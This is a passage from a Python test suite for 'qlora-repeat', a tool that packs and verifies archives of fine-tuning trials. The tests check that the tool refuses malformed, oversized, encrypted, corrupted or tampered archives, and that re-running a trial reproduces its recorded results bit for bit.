        archive.writestr("README.md", "another")
    assert "it has 2 files named readme.md" in refused(path, tmp_path)
    apart = fitting(files | {"tables/A.json": b"1", "tables/a.json": b"2"})
    assert "it has 2 files named tables/a.json" in refused(zipped(tmp_path / "b.zip", apart), tmp_path)
    both = fitting(files | {"tables/a.json": b"1", "tables/a.json/b.json": b"2"})
    assert "tables/a.json is both a file and a folder" in refused(zipped(tmp_path / "c.zip", both), tmp_path)


def test_a_bomb_is_refused(files: Files, tmp_path: Path) -> None:
    """Refuse a compressed file, and files that claim to be larger than the archive."""

    def change(info: zipfile.ZipInfo) -> None:
        info.compress_type = zipfile.ZIP_DEFLATED

    zeros = fitting(files | {"tables/zeros.json": bytes(10**8)})
    path = zipped(tmp_path / "a.zip", zeros, change)
    assert path.stat().st_size < 10**6
    assert "so its size cannot be trusted" in refused(path, tmp_path)
    path = zipped(tmp_path / "b.zip", fitting(files | {"tables/zeros.json": bytes(10**6)}))
    content = path.read_bytes()
    claim = (10**6).to_bytes(4, "little")
    path.write_bytes(content.replace(claim, (10**9).to_bytes(4, "little")))
    assert "its files have 1,000," in refused(path, tmp_path)


def test_an_encrypted_file_is_refused(files: Files, tmp_path: Path) -> None:
    path = zipped(tmp_path / "a.zip", files)
    content = bytearray(path.read_bytes())
    central = content.rindex(b"PK\x01\x02")
    content[central + 8] |= 1
    path.write_bytes(content)
    assert "is encrypted or compressed" in refused(path, tmp_path)


def test_files_and_checksums_must_match(files: Files, tmp_path: Path) -> None:
    trace = f"{FOLDER}/trace.jsonl"
    less = {name: content for name, content in files.items() if name != trace}
    assert f"{trace}' is in {SUMS} but not in the archive" in refused(
        zipped(tmp_path / "a.zip", less), tmp_path
    )
    more = files | {"tables/more.json": b"{}"}
    assert f"more.json' is in the archive but not in {SUMS}" in refused(
        zipped(tmp_path / "b.zip", more), tmp_path
    )
    listed = more | {SUMS: files[SUMS] + f"{hashlib.sha256(b'{}').hexdigest()}  tables/more.json\n".encode()}
    assert f"{CRATE} does not describe a file: 'tables/more.json'" in refused(
        zipped(tmp_path / "c.zip", listed), tmp_path
    )
    for name in (SUMS, CRATE):
        lacking = {each: content for each, content in files.items() if each != name}
        assert f"it has no {name}" in refused(zipped(tmp_path / f"{name}.zip", lacking), tmp_path)
    for number, sums in enumerate((b"no sums\n", files[SUMS] * 2, "\N{BULLET}".encode())):
        refused(zipped(tmp_path / f"{number}.zip", files | {SUMS: sums}), tmp_path)


def test_changed_bytes_are_refused(files: Files, tmp_path: Path) -> None:
    changed = files | {f"{FOLDER}/trace.jsonl": files[f"{FOLDER}/trace.jsonl"].replace(b"1", b"2")}
    assert f"trace.jsonl does not have the checksum that {SUMS} gives" in refused(
        zipped(tmp_path / "a.zip", changed), tmp_path
    )
    readme = fitting(files)
    crate = readme[CRATE].replace(hashlib.sha256(files["README.md"]).hexdigest().encode(), b"0" * 64)
    sums = readme[SUMS].replace(
        hashlib.sha256(readme[CRATE]).hexdigest().encode(), hashlib.sha256(crate).hexdigest().encode()
    )
    other = readme | {CRATE: crate, SUMS: sums}
    assert f"{CRATE} gives another size or digest of README.md" in refused(
        zipped(tmp_path / "b.zip", other), tmp_path
    )


@pytest.mark.parametrize("crate", [b"{}", b"[]", b'{"@graph": 3}', b"{", b"[" * 100_000, b'{"@graph": [1]}'])
def test_an_invalid_description_is_refused(crate: bytes, files: Files, tmp_path: Path) -> None:
    sums = files[SUMS].replace(
        hashlib.sha256(files[CRATE]).hexdigest().encode(), hashlib.sha256(crate).hexdigest().encode()
    )
    theirs = files | {CRATE: crate, SUMS: sums}
    assert "not an archive of `qlora-repeat pack`" in refused(zipped(tmp_path / "a.zip", theirs), tmp_path)


def test_a_file_that_is_no_archive_is_refused(finished: Lab, tmp_path: Path) -> None:
    content = finished.archive.read_bytes()
    for number, part in enumerate((b"", b"PK", content[:-30], content[: len(content) // 2], content[1000:])):
        path = tmp_path / f"{number}.zip"
        path.write_bytes(part)
        refused(path, tmp_path)
    assert "no such archive" in refused(tmp_path / "none.zip", tmp_path)
    (tmp_path / "folder.zip").mkdir()
    assert "no such archive" in refused(tmp_path / "folder.zip", tmp_path)


def test_a_changed_byte_is_refused_or_has_no_effect(finished: Lab, tmp_path: Path) -> None:
    """Change one byte anywhere: the unpacked files are as packed, or there are none."""
    content = finished.archive.read_bytes()
    with opened(finished.archive) as found:
        whole = folder_digests(found.folder)
    generator = random.Random(7)
    directory = content.index(b"PK\x01\x02")
    places = [generator.randrange(len(content)) for _ in range(50)]
    places += [generator.randrange(directory, len(content)) for _ in range(50)]
    kept = 0
    for place in places:
        changed = bytearray(content)
        changed[place] ^= generator.randrange(1, 256)
        (tmp_path / "a.zip").write_bytes(changed)
        with contextlib.suppress(MissingError), opened(tmp_path / "a.zip") as found:
            assert folder_digests(found.folder) == whole, place
            kept += 1
    assert kept < len(places) / 2


def test_check_names_contradictions_in_an_archive(
    finished: Lab, current: Files, files: Files, tmp_path: Path
) -> None:
    result = run("check", finished.archive, "--cache", finished.cache)
    assert result.exit_code == 0
    assert result.output == (
        f"{finished.archive}: {len(current)} files have the checksums that it states; the records of 8 "
        "trials match their files, and the collected results match the records\n"
    )
    better = files["runs/tiny/results.jsonl"].replace(b'"perplexity": 8.25', b'"perplexity": 7.25', 1)
    trace = files[f"{FOLDER}/trace.jsonl"].replace(b'"step": 1', b'"step": 2')
    for name, content, words in (
        ("runs/tiny/results.jsonl", better, f"{FIRST} has other results than its records"),
        (f"{FOLDER}/trace.jsonl", trace, f"{FOLDER}/trace.jsonl: not the bytes that were recorded"),
        (f"{FOLDER}/evaluate.json", None, f"{FIRST} has results, but no records"),
        (f"{FOLDER}/finetune.json", b"{}", f"{FOLDER}/finetune.json: not a readable record"),
        (
            f"{FOLDER[:-1]}9/trace.jsonl",
            b"{}",
            f"{FOLDER[:-1]}9/trace.jsonl: no record of the study names it",
        ),
        ("runs/tiny/tiny-neox/base/test-9.json", b"{}", "base/test-9.json: no record of the study names it"),
        ("runs/other/x/y/trial-1/time.json", b"{}", "trial-1/time.json: no record of the study names it"),
    ):
        theirs = {**files, name: content or b""}
        if content is None:
            del theirs[name]
        path = zipped(tmp_path / "a.zip", fitting(theirs))
        result = run("check", path, "--cache", finished.cache)
        assert isinstance(result.exception, MissingError)
        assert f"{path}: " in result.output
        assert words in result.output
        assert "/tmp/qlora-repeat-" not in result.output


def test_an_invalid_study_file_gives_one_line(files: Files, tmp_path: Path) -> None:
    for number, text in enumerate((b"name = 3", b"a = " + b"[" * 100_000, b"\xff")):
        path = zipped(tmp_path / f"{number}.zip", fitting(files | {"studies/tiny.toml": text}))
        assert isinstance(failure(run("check", path)), UsageError)
        assert isinstance(failure(run("verify", f"{path}:{FIRST}")), UsageError)


@pytest.fixture(scope="session")
def recorded(cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Lab:
    """Return a lab with a packed trial that really ran."""
    lab = Lab(tmp_path_factory.mktemp("recorded"), cache)
    write_study(lab.folder)
    trial = at(load_study(str(lab.study)), lab.runs, cache).trial(FIRST)
    run_trial(trial, STAGES, lambda *progress: None)
    assert lab.kit("pack").exit_code == 0, "nothing in records, trace and adapter looks private"
    return lab


def test_verify_repeats_an_unpacked_trial_to_the_same_bits(recorded: Lab, tmp_path: Path) -> None:
    """Verify with only the study in the archive."""
    unpack(recorded.archive, tmp_path / "theirs", quiet)
    before = folder_digests(tmp_path / "theirs")
    where = ["--cache", recorded.cache, "--scratch", tmp_path / "scratch", "--quiet"]
    result = run("verify", tmp_path / "theirs" / FOLDER, *where)
    assert result.exit_code == 0, (result.output, result.exception)
    assert result.stdout.startswith(f"tiny:{FIRST}: bitwise\n")
    assert folder_digests(tmp_path / "theirs") == before
    row = read_results(tmp_path / "theirs/runs/tiny/results.jsonl")[0]
    page = next((tmp_path / "scratch").rglob("verdict.json"))
    assert json.loads(page.read_text())["verdict"] == "bitwise"
    again = next((tmp_path / "scratch").rglob("evaluate.json"))
    assert json.loads(again.read_text())["outputs"]["perplexity"] == row.perplexity


def test_a_trial_in_an_archive_can_be_verified(recorded: Lab, tmp_path: Path) -> None:
    where = ["--cache", recorded.cache, "--scratch", tmp_path, "--quiet", "--steps", 1]
    result = run("verify", f"{recorded.archive}:{FIRST}", *where)
    assert result.exit_code == 0, (result.output, result.exception)
    assert result.stdout.startswith(f"tiny:{FIRST}: bitwise\n")
    error = failure(run("verify", f"{recorded.archive}:tiny-neox/adamw-8bit/2", *where))
    assert "the archive has no results of it, so there is nothing to verify" in str(error)
    assert "numbers its trials" in str(failure(run("verify", f"{recorded.archive}:tiny-neox/adamw-8bit/9")))


def test_verify_finds_a_forged_number(recorded: Lab, tmp_path: Path) -> None:
    """Forge a number in consistent checksums, records and results."""
    forger = Lab(tmp_path / "forger", recorded.cache)
    copy_folder(recorded.folder, forger.folder)
    path = forger.runs / FOLDER.removeprefix("runs/") / "evaluate.json"
    record = read_record(path)
    assert record is not None
    write_record(path, dataclasses.replace(record, outputs=record.outputs | {"perplexity": 12.5}))
    forger.pack()
    assert run("check", forger.archive, "--cache", forger.cache).exit_code == 0
    where = ["--cache", forger.cache, "--scratch", tmp_path / "scratch", "--quiet"]
    result = run("verify", f"{forger.archive}:{FIRST}", "--stages", "evaluate", *where)
    assert result.exit_code == 7
    assert result.stdout.startswith(f"tiny:{FIRST}: different\n")


TOLERANT = """
[tolerance.adamw-8bit]
first_loss = 1e6
loss = 1e6
adapter = 1e6
perplexity = 1e6
"""


def test_the_study_of_an_archive_does_not_set_tolerances(recorded: Lab, tmp_path: Path) -> None:
    """Use the tolerances of a study file only if the reviewer names one outside of the archive."""
    forger = Lab(tmp_path / "forger", recorded.cache)
    copy_folder(recorded.folder, forger.folder)
    forger.study.write_text(forger.study.read_text() + TOLERANT)
    forger.pack()
    unpack(forger.archive, tmp_path / "theirs", quiet)
    where = ["--cache", forger.cache, "--scratch", tmp_path / "scratch", "--quiet", "--json", "--steps", 1]
    theirs = ["--study", tmp_path / "theirs/studies/tiny.toml", "--runs", tmp_path / "theirs/runs"]
    for given in ([f"{forger.archive}:{FIRST}"], [tmp_path / "theirs" / FOLDER], [FIRST, *theirs]):
        verdict = json.loads(run("verify", *given, *where).stdout)
        assert verdict["tolerance"]["loss"] < 1, given
        assert "tolerances of its own (1e+06, 1e+06, 1e+06, 1e+06)" in verdict["notes"][0]
    mine = run("verify", tmp_path / "theirs" / FOLDER, "--study", forger.study, *where)
    verdict = json.loads(mine.stdout)
    assert (verdict["tolerance"]["loss"], verdict["notes"]) == (1e6, [])


def test_a_change_to_a_file_during_packing_is_noticed(tmp_path: Path) -> None:
    from qlora_repeat.records.record import keep

    source, path = tmp_path / "trace.jsonl", tmp_path / "a.zip"
    source.write_text("1\n")
    entry = Entry("lockfiles/a.txt", source, keep(source))
    source.write_text("2\n")
    with pytest.raises(MissingError, match="changed while it was packed"):
        write_archive(path, [entry, text_entry("README.md", "")], quiet)
    assert list(tmp_path.iterdir()) == [source]
